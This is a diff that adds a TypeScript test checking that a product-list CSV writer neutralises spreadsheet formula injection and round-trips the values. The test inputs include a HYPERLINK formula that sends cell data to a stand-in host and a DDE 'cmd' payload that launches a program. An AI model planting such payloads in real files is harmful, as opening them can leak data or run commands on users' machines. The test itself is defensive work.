@@ -113,4 +113,32 @@ describe('the product list file', () => {
     ]);
     expect((await readProductFile(bytes(text))).products.map((l) => l.product)).toEqual(products);
   });
+
+  it('writes a text a spreadsheet would run after an apostrophe, quoted, and reads it back as it was', async () => {
+    const product = (sku: string, description: string) => ({
+      sku,
+      description,
+      hs_code: '691110',
+      origin: 'IT',
+      unit_weight: 0.3,
+      unit_value: 0,
+      currency: '',
+    });
+    const products = [
+      product('=HYPERLINK("http://x.example/?"&A1;"Clic")', "+cmd|'/C calc'!A0"),
+      product('-2+3', '@SUM(A1:A9)'),
+      product("'=1+1", "'quoted on purpose"),
+      product('+39-12', 'Mug - blue'),
+    ];
+    const text = writeProductFile(products);
+    expect(text.split('\r\n').slice(1, 5)).toEqual([
+      `"'=HYPERLINK(""http://x.example/?""&A1;""Clic"")";"'+cmd|'/C calc'!A0";691110;IT;0,3;;`,
+      `"'-2+3";"'@SUM(A1:A9)";691110;IT;0,3;;`,
+      `"''=1+1";"''quoted on purpose";691110;IT;0,3;;`,
+      `"'+39-12";Mug - blue;691110;IT;0,3;;`,
+    ]);
+    const again = await readProductFile(bytes(text));
+    expect(again.errors).toEqual([]);
+    expect(again.products.map((l) => l.product)).toEqual(products);
+  });
 });
